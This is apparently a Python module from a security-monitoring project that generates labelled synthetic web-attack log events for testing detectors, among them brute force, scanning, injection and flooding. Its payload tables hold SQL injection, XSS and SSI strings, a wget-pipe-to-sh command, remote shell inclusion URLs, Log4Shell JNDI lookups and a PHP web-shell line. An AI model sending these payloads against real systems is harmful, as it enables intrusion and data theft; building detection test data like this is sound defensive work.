"""Attack scenarios with ground-truth labels, their payloads from CrowdSec's pattern lists.

Each scenario is a function `(kit, start_ms) -> (events, target_username)`; `attack()` runs one
and labels it. Events of one attack come from one attacker IP, in time order.
"""

from __future__ import annotations

import random
from collections import deque
from collections.abc import Callable
from dataclasses import asdict, dataclass
from urllib.parse import quote, quote_plus

from secmon.core.classify import seeds
from secmon.core.events import Event, iso_timestamp

from . import site
from .site import HIGH, LOW, MEDIUM, Population, Site

# Hosting and VPN ranges the attackers come from; normal visitors never use these first octets.
ATTACKER_FIRST_OCTETS = (5, 45, 85, 91, 141, 185, 193, 194)
RECENT_IPS = 5_000
SCRIPT_AGENTS = ("python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1", "okhttp/4.12.0")


@dataclass(frozen=True)
class Label:
    """Ground truth for one attack: who, against whom, when."""

    scenario: str
    attacker_ip: str
    target_username: str | None
    first_event_ms: int
    last_event_ms: int
    events: int

    def to_dict(self) -> dict:
        doc = asdict(self)
        doc["first_event"] = iso_timestamp(doc.pop("first_event_ms"))
        doc["last_event"] = iso_timestamp(doc.pop("last_event_ms"))
        return doc


class AttackKit:
    """What scenarios draw on: the random source, the site's users, and an event builder."""

    def __init__(self, rng: random.Random, population: Population) -> None:
        self.rng = rng
        self.population = population
        self.site = Site(rng)
        # The latest attackers' IPs, so that two attacks near in time never share one (bounded: a
        # run without end plans attacks forever).
        self._recent_ips: deque[str] = deque(maxlen=RECENT_IPS)

    def attacker_ip(self) -> str:
        while True:
            rng = self.rng
            ip = (
                f"{rng.choice(ATTACKER_FIRST_OCTETS)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            )
            if ip not in self._recent_ips:
                self._recent_ips.append(ip)
                return ip

    def victim(self) -> site.User:
        return self.rng.choice(self.population.users)

    def browser(self) -> str:
        return site.random_browser_agent(self.rng)

    def event(
        self,
        ts: int,
        ip: str,
        agent: str,
        url: str,
        method: str,
        status: int,
        action: str,
        level: str,
        username: str | None = None,
        user_id: str | None = None,
        referrer: str = "direct",
        median_ms: float = 80,
    ) -> Event:
        response_time = int(self.rng.lognormvariate(0, 0.5) * median_ms) + 1
        return Event(ts, ip, agent, url, method, status, response_time, referrer, user_id, username, action, level)

    def gaps(self, start_ms: int, count: int, low_ms: int, high_ms: int) -> list[int]:
        """`count` timestamps from `start_ms`, spaced uniformly between low_ms and high_ms."""
        stamps, ts = [], start_ms
        for _ in range(count):
            stamps.append(ts)
            ts += self.rng.randrange(low_ms, high_ms)
        return stamps

    def page(self) -> str:
        return self.site.url(self.site.browsing_step())


def brute_force(kit: AttackKit, start_ms: int):
    """Many failed logins on one account from one IP (no success)."""
    ip, agent, victim = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS), kit.victim()
    stamps = kit.gaps(start_ms, kit.rng.randrange(40, 120), 400, 2500)
    return [
        kit.event(ts, ip, agent, "/login", "POST", 401, "login", HIGH, victim.username, median_ms=240) for ts in stamps
    ], victim.username


def credential_stuffing(kit: AttackKit, start_ms: int):
    """One IP tries many leaked username/password pairs: mostly failures, a rare hit."""
    ip, agent = kit.attacker_ip(), kit.browser()
    events = []
    for ts in kit.gaps(start_ms, kit.rng.randrange(40, 150), 200, 1500):
        if kit.rng.random() < 0.6:
            username = kit.victim().username
        else:
            username = f"{kit.rng.choice(site.FIRST_NAMES)}{kit.rng.randrange(1950, 2010)}"
        status = 302 if kit.rng.random() < 0.03 else 401
        events.append(kit.event(ts, ip, agent, "/login", "POST", status, "login", HIGH, username, median_ms=240))
    return events, None


def account_takeover(kit: AttackKit, start_ms: int):
    """A few failures on one account, then a success, then the account's settings are changed."""
    ip, agent, victim = kit.attacker_ip(), kit.browser(), kit.victim()
    failures = kit.rng.randrange(5, 9)
    stamps = kit.gaps(start_ms, failures + 1, 2000, 8000)
    events = [
        kit.event(ts, ip, agent, "/login", "POST", 401, "login", HIGH, victim.username, median_ms=240)
        for ts in stamps[:-1]
    ]
    events.append(
        kit.event(
            stamps[-1], ip, agent, "/login", "POST", 302, "login", HIGH, victim.username, victim.user_id, median_ms=240
        )
    )
    ts = stamps[-1]
    for url, method, action, level in (
        ("/account/profile", "GET", "view_page", MEDIUM),
        ("/account/settings", "POST", "submit_form", HIGH),
        ("/account/documents", "GET", "download_file", HIGH),
    ):
        ts += kit.rng.randrange(1500, 6000)
        events.append(
            kit.event(
                ts, ip, agent, url, method, 200, action, level, victim.username, victim.user_id, referrer="internal"
            )
        )
    return events, victim.username


def path_probing(kit: AttackKit, start_ms: int):
    """A burst of requests for admin panels and web shells that do not exist: 404s and 403s."""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
    candidates = [p for p in seeds.load("admin_interfaces") if p.startswith("/")]
    candidates += ["/" + name for name in seeds.load("backdoors")]
    paths = kit.rng.sample(candidates, kit.rng.randrange(20, 60))
    return [
        kit.event(ts, ip, agent, path, "GET", 403 if kit.rng.random() < 0.1 else 404, "view_page", LOW)
        for ts, path in zip(kit.gaps(start_ms, len(paths), 100, 1500), paths)
    ], None


def sensitive_files(kit: AttackKit, start_ms: int):
    """Requests for leaked secrets and dumps: /.env, /.git/config, /backup.sql …"""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
    suffixes = kit.rng.sample(seeds.load("sensitive_files"), kit.rng.randrange(8, 25))
    paths = [
        "/" + s if s.startswith(".") else "/" + kit.rng.choice(("", "backup/", "db/", "old/")) + s for s in suffixes
    ]
    paths = [p if not p.startswith("/.sql") else "/dump" + p[1:] for p in paths]
    return [
        kit.event(ts, ip, agent, path, "GET", 404 if kit.rng.random() < 0.85 else 403, "view_page", LOW)
        for ts, path in zip(kit.gaps(start_ms, len(paths), 150, 2000), paths)
    ], None


def _query_probe(
    kit: AttackKit, start_ms: int, pattern_list: str, payloads: Callable[[str], str], path_choices: tuple[str, ...]
):
    ip, agent = kit.attacker_ip(), kit.browser()
    chosen = [kit.rng.choice(seeds.load(pattern_list)) for _ in range(kit.rng.randrange(15, 40))]
    return [
        kit.event(
            ts,
            ip,
            agent,
            kit.rng.choice(path_choices) + payloads(pattern),
            "GET",
            kit.rng.choice((200, 200, 400, 500)),
            "navigate_page",
            LOW,
        )
        for ts, pattern in zip(kit.gaps(start_ms, len(chosen), 200, 2500), chosen)
    ], None


def sqli_probing(kit: AttackKit, start_ms: int):
    """SQL injection payloads in the query string."""
    return _query_probe(
        kit,
        start_ms,
        "sqli_patterns",
        lambda p: f"1{p}{quote('--', safe='')}",
        ("/products?id=", "/search?q=shoes&page=", "/products?category=sale&sort="),
    )


def xss_probing(kit: AttackKit, start_ms: int):
    """Script and markup injection in the query string."""
    return _query_probe(
        kit,
        start_ms,
        "xss_patterns",
        lambda p: p + quote(" src=x onerror=alert(1)>", safe="%"),
        ("/search?q=", "/contact?name=", "/products?sort="),
    )


def path_traversal(kit: AttackKit, start_ms: int):
    """Directory traversal payloads in the query string."""
    return _query_probe(
        kit,
        start_ms,
        "path_traversal",
        lambda p: "../../../.." + p if p.startswith("/") else p * 4 + "etc/passwd",
        ("/downloads?file=", "/static?path=", "/api/export?template="),
    )


SCANNER_AGENTS = (
    "sqlmap/1.7.12#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 6.1) Acunetix-Product/14.0",
    "Fuzz Faster U Fool v2.1.0-dev",
    "gobuster/3.6",
)
# SEO crawlers and scrapers as they appear in real logs: unwanted, but not attacks.
CRAWLER_AGENTS = (
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)",
    "Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)",
    "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) 360Spider",
    "Mozilla/5.0 (compatible; MegaIndex.ru/2.0; +http://megaindex.com/crawler)",
    "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
)


def bad_user_agent(kit: AttackKit, start_ms: int):
    """An SEO crawler or scraper of the bad agent list (MJ12bot, Exabot, 360Spider …) browsing the site."""
    ip, agent = kit.attacker_ip(), kit.rng.choice(CRAWLER_AGENTS)
    return [
        kit.event(ts, ip, agent, kit.page(), "GET", kit.rng.choice((200, 200, 200, 304)), "view_page", LOW)
        for ts in kit.gaps(start_ms, kit.rng.randrange(10, 40), 300, 3000)
    ], None


def scanner_user_agent(kit: AttackKit, start_ms: int):
    """A security scanner that announces itself in the User-Agent: sqlmap, Nikto, Nmap, masscan …"""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCANNER_AGENTS)
    return [
        kit.event(ts, ip, agent, kit.page(), "GET", kit.rng.choice((200, 200, 200, 304, 404)), "view_page", LOW)
        for ts in kit.gaps(start_ms, kit.rng.randrange(10, 40), 300, 3000)
    ], None


def wordpress_brute_force(kit: AttackKit, start_ms: int):
    """Password guessing as real logs show it: POST /wp-login.php (or xmlrpc.php) answered 200, no user name."""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS + (kit.browser(),))
    endpoint = kit.rng.choice(("/wp-login.php", "/wp-login.php", "/xmlrpc.php"))
    return [
        kit.event(ts, ip, agent, endpoint, "POST", 200, "login", HIGH, median_ms=300)
        for ts in kit.gaps(start_ms, kit.rng.randrange(40, 120), 400, 2500)
    ], None


def webshell_probing(kit: AttackKit, start_ms: int):
    """Requests for webshells someone else may have planted: /s72_Shell.php, /wp-content/uploads/c99.php …"""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
    shells = kit.rng.sample(seeds.load("backdoors"), kit.rng.randrange(5, 30))
    folders = ("/", "/wp-content/uploads/", "/images/", "/wp-includes/", "/uploads/")
    return [
        kit.event(
            ts,
            ip,
            agent,
            kit.rng.choice(folders) + shell.replace(" ", "%20"),
            "GET",
            404 if kit.rng.random() < 0.9 else 403,
            "view_page",
            LOW,
        )
        for ts, shell in zip(kit.gaps(start_ms, len(shells), 200, 2500), shells)
    ], None


def exploit_probing(kit: AttackKit, start_ms: int):
    """A few requests carrying known exploits: Log4Shell, Apache traversal, Spring4Shell, PHPUnit …"""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
    events = []
    for ts in kit.gaps(start_ms, kit.rng.randrange(1, 6), 500, 5000):
        signature = kit.rng.choice(seeds.load("exploit_signatures"))
        url, request_agent = signature, agent
        if signature.startswith(("${", "() {")):  # header injections: Log4Shell, Shellshock
            url, request_agent = (
                "/",
                signature + ("ldap://x.example/a}" if signature.startswith("$") else " :; }; /bin/id"),
            )
        elif not signature.startswith("/"):
            url = "/index.php?q=" + signature.replace("#", "%23").replace(" ", "%20")
        events.append(
            kit.event(ts, ip, request_agent, url, "GET", kit.rng.choice((400, 404, 404, 500)), "view_page", LOW)
        )
    return events, None


def aggressive_crawling(kit: AttackKit, start_ms: int):
    """A scraper behind a browser's agent fetching pages, not assets, a few a second."""
    ip, agent = kit.attacker_ip(), kit.browser()
    count = kit.rng.randrange(150, 400)
    return [
        kit.event(ts, ip, agent, kit.page(), "GET", 200, "view_page", LOW) for ts in kit.gaps(start_ms, count, 150, 450)
    ], None


def open_proxy_probing(kit: AttackKit, start_ms: int):
    """Asking the server to relay: absolute-URL requests and CONNECT to other hosts."""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
    targets = (
        ("GET", "http://www.google.com/"),
        ("GET", "http://azenv.net/"),
        ("CONNECT", "www.google.com:443"),
        ("GET", "http://ip-api.com/json"),
        ("CONNECT", "api.ipify.org:443"),
        ("HEAD", "http://example.com/"),
    )
    chosen = kit.rng.sample(targets, kit.rng.randrange(1, 4))
    return [
        kit.event(ts, ip, agent, url, method, kit.rng.choice((400, 404, 405)), "view_page", LOW)
        for ts, (method, url) in zip(kit.gaps(start_ms, len(chosen), 500, 4000), chosen)
    ], None


def w00tw00t(kit: AttackKit, start_ms: int):
    """The DFind/ZmEu fingerprint request."""
    ip = kit.attacker_ip()
    return [kit.event(start_ms, ip, None, "/w00tw00t.at.ISC.SANS.DFind:)", "GET", 400, "view_page", LOW)], None


# Payloads as tools and people write them, before encoding (the encoding is chosen per request).
SSI_PAYLOADS = (
    '<!--#include file="/etc/passwd"-->',
    '<!--#exec cmd="id"-->',
    '<!--#echo var="DOCUMENT_ROOT"-->',
    '<!--#include virtual="/etc/shadow"-->',
    "<!--#printenv -->",
)
CRLF_PAYLOADS = (
    "\r\nSet-Cookie: sessionid=attacker",
    "\r\nLocation: http://evil.example/",
    "\nX-Injected: 1",
    "\r\n\r\n<script>alert(1)</script>",
    "\r\nContent-Type: text/html",
)
SQLI_PAYLOADS = (
    "1' AND '1'='1",
    "1' OR 1=1--",
    "1'; DROP TABLE users; SELECT * FROM orders",
    "1' waitfor delay '0:0:15'--",
    "1 AND SLEEP(5)",
    "-1' UNION SELECT username,password FROM users#",
    "1'/**/OR/**/'x'='x",
)
XSS_PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    "<svg/onload=confirm(1)>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
)
FILE_PROBES = (
    "/config.php.bak",
    "/index.php.old",
    "/.env",
    "/db/backup.sql",
    "/WEB-INF/web.xml",
    "/_vti_bin/shtml.dll",
    "/download?file=../../../../etc/passwd",
)


def encoded_payload(kit: AttackKit, payload: str) -> str:
    """A payload as it reaches the log: percent-encoded once or twice (sqlmap's and Burp's habits), or with
    `+` for spaces and only its unsafe characters encoded, as a browser's form does."""
    style = kit.rng.randrange(3)
    if style == 0:
        return quote_plus(payload, safe="'()*=,;:/")
    once = quote(payload, safe="")
    return once if style == 1 else quote(once, safe="")


def _payload_requests(kit: AttackKit, start_ms: int, payloads: tuple[str, ...], paths: tuple[str, ...], count: int):
    ip, agent = kit.attacker_ip(), kit.browser()
    chosen = kit.rng.sample(payloads, min(count, len(payloads)))
    return [
        kit.event(
            ts,
            ip,
            agent,
            kit.rng.choice(paths) + encoded_payload(kit, payload),
            "GET",
            kit.rng.choice((200, 200, 302, 400, 500)),
            "navigate_page",
            LOW,
        )
        for ts, payload in zip(kit.gaps(start_ms, len(chosen), 500, 4000), chosen)
    ], None


def ssi_injection(kit: AttackKit, start_ms: int):
    """Server-side includes in a parameter (`<!--#include file=…-->`, `<!--#exec cmd=…-->`)."""
    return _payload_requests(
        kit, start_ms, SSI_PAYLOADS, ("/page.shtml?name=", "/search?q=", "/contact?msg="), kit.rng.randrange(1, 4)
    )


def crlf_injection(kit: AttackKit, start_ms: int):
    """CR/LF then a header (`Set-Cookie:`, `Location:`) in a redirect parameter: header injection."""
    return _payload_requests(
        kit, start_ms, CRLF_PAYLOADS, ("/redirect?to=", "/lang?set=", "/logout?next="), kit.rng.randrange(1, 4)
    )


# One attacker per CRS family that an access log shows, its payloads as public exploits and scanners
# (nuclei templates, sqlmap's and commix's tampers, PayloadsAllTheThings) write them.
FAMILY_PAYLOADS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {  # scenario: (payloads, paths)
    "command_injection": (
        (
            ";cat /etc/passwd",
            "|id",
            "$(wget http://198.51.100.9/x -O- | sh)",
            "`uname -a`",
            "&& whoami",
            "|| ping -c 3 127.0.0.1",
        ),
        ("/ping?host=127.0.0.1", "/cgi-bin/status?x=", "/api/diag?target=example.org"),
    ),
    "rfi_injection": (
        (
            "http://198.51.100.9/shell.txt?",
            "https://203.0.113.77/x.txt?",
            "ftp://198.51.100.9/r57.txt",
            "http://198.51.100.9/c.txt%00",
        ),
        ("/index.php?page=", "/include.php?file=", "/view.php?template="),
    ),
    "php_injection": (
        (
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "php://input",
            'O:8:"stdClass":1:{s:4:"data";s:2:"id";}',
            "${@print(md5(1))}",
            "<?= `id` ?>",
        ),
        ("/index.php?page=", "/wp-admin/admin-ajax.php?data=", "/?s="),
    ),
    "node_injection": (
        ("require('child_process').exec('id')", "process.mainModule.require('fs').readFileSync('/etc/passwd')"),
        (
            "/api/items?filter[__proto__][isAdmin]=true&q=",
            "/api/run?code=",
            "/api/merge?constructor[prototype][polluted]=1&x=",
        ),
    ),
    "java_injection": (
        (
            "${jndi:ldap://198.51.100.9:1389/a}",
            "${jndi:rmi://198.51.100.9/o}",
            "java.lang.Runtime.getRuntime().exec('id')",
            "${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}",
        ),
        ("/login?user=", "/api/search?q=", "/?x="),
    ),
    "session_fixation": (
        (
            '<meta http-equiv="Set-Cookie" content="SESSIONID=fixated">',
            "document.cookie='JSESSIONID=fixated; domain=.example.org'",
        ),
        ("/index.php?msg=", "/login?next="),
    ),
    "ldap_injection": (
        ("*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "x)(|(password=*)"),
        ("/directory/search?user=", "/login?username=", "/people?cn="),
    ),
    "generic_injection": (
        ("<%= 7*7 %>", "{{7*7}}${7*7}", "#{7*7}", "system('id')", "__import__('os').popen('id').read()"),
        ("/render?template=", "/search?q=", "/preview?body="),
    ),
}


def _family_probe(family: str) -> Callable:
    payloads, paths = FAMILY_PAYLOADS[family]

    def probe(kit: AttackKit, start_ms: int):
        return _payload_requests(
            kit, start_ms, payloads, paths, kit.rng.randrange(min(3, len(payloads)), len(payloads) + 1)
        )

    probe.__name__ = family
    probe.__doc__ = f"Payloads of the {family.replace('_', ' ')} family in a parameter, encoded as tools send them."
    return probe


def site_exposure(kit: AttackKit, start_ms: int):
    """A scanner finds what the site leaks: most probes refused, one secret served (an `.env` or a
    `.git/config` answered 200)."""
    ip, agent = kit.attacker_ip(), kit.rng.choice(SCRIPT_AGENTS)
    # Each attack finds its own leak (one alert per exposed URL: two finds of one leak are one alert).
    app = f"/app{kit.rng.randrange(10_000)}"
    leaked = kit.rng.choice((f"{app}/.env", f"{app}/.git/config", f"/backup/site-{kit.rng.randrange(10_000)}.sql"))
    paths = [*kit.rng.sample(("/.env.local", "/.aws/credentials", "/.htpasswd", "/id_rsa"), 2), leaked]
    return [
        kit.event(ts, ip, agent, path, "GET", 200 if path == leaked else 404, "view_page", LOW)
        for ts, path in zip(kit.gaps(start_ms, len(paths), 300, 2000), paths)
    ], None


def mixed_web_attack(kit: AttackKit, start_ms: int):
    """An attacker who mixes techniques, each below its family's own threshold: three SQL injections, two
    XSS and two file probes."""
    ip, agent = kit.attacker_ip(), kit.browser()
    urls = (
        [f"/products?id={encoded_payload(kit, p)}" for p in kit.rng.sample(SQLI_PAYLOADS, 3)]
        + [f"/search?q={encoded_payload(kit, p)}" for p in kit.rng.sample(XSS_PAYLOADS, 2)]
        + kit.rng.sample(FILE_PROBES, 2)
    )
    kit.rng.shuffle(urls)
    return [
        kit.event(ts, ip, agent, url, "GET", kit.rng.choice((200, 403, 404, 500)), "navigate_page", LOW)
        for ts, url in zip(kit.gaps(start_ms, len(urls), 1000, 8000), urls)
    ], None


def request_flood(kit: AttackKit, start_ms: int):
    """One IP at many times a visitor's rate: tens of requests a second for a minute or two."""
    ip, agent = kit.attacker_ip(), kit.browser()
    per_second = kit.rng.randrange(20, 60)
    count = per_second * kit.rng.randrange(60, 120)
    step = 1000 // per_second
    return [
        kit.event(ts, ip, agent, kit.page(), "GET", 503 if kit.rng.random() < 0.2 else 200, "view_page", LOW)
        for ts in kit.gaps(start_ms, count, max(1, step // 2), step * 3 // 2)
    ], None


def switching_user_agents(kit: AttackKit, start_ms: int):
    """One IP rotating through many browser identities to dodge per-agent limits."""
    ip = kit.attacker_ip()
    agents = list(site.DESKTOP_AGENTS + site.MOBILE_AGENTS)
    agents += [
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        f"Chrome/{kit.rng.randrange(100, 124)}.0.{kit.rng.randrange(1000, 6999)}.{kit.rng.randrange(10, 200)} "
        f"Safari/537.36"
        for _ in range(40)
    ]
    chosen = kit.rng.sample(agents, kit.rng.randrange(15, 40))
    stamps = kit.gaps(start_ms, len(chosen) * 2, 300, 2500)
    return [
        kit.event(ts, ip, chosen[i // 2], kit.page(), "GET", 200, "view_page", LOW) for i, ts in enumerate(stamps)
    ], None


SCENARIOS: dict[str, Callable] = {
    fn.__name__: fn
    for fn in (
        brute_force,
        credential_stuffing,
        account_takeover,
        path_probing,
        sensitive_files,
        sqli_probing,
        xss_probing,
        path_traversal,
        bad_user_agent,
        request_flood,
        switching_user_agents,
        scanner_user_agent,
        wordpress_brute_force,
        webshell_probing,
        exploit_probing,
        aggressive_crawling,
        open_proxy_probing,
        w00tw00t,
        ssi_injection,
        crlf_injection,
        mixed_web_attack,
        site_exposure,
        *(_family_probe(family) for family in FAMILY_PAYLOADS),
    )
}


def attack(kit: AttackKit, scenario: str, start_ms: int) -> tuple[Label, list[Event]]:
    events, target = SCENARIOS[scenario](kit, start_ms)
    label = Label(
        scenario, events[0].ip_address, target, events[0].request_timestamp, events[-1].request_timestamp, len(events)
    )
    return label, events
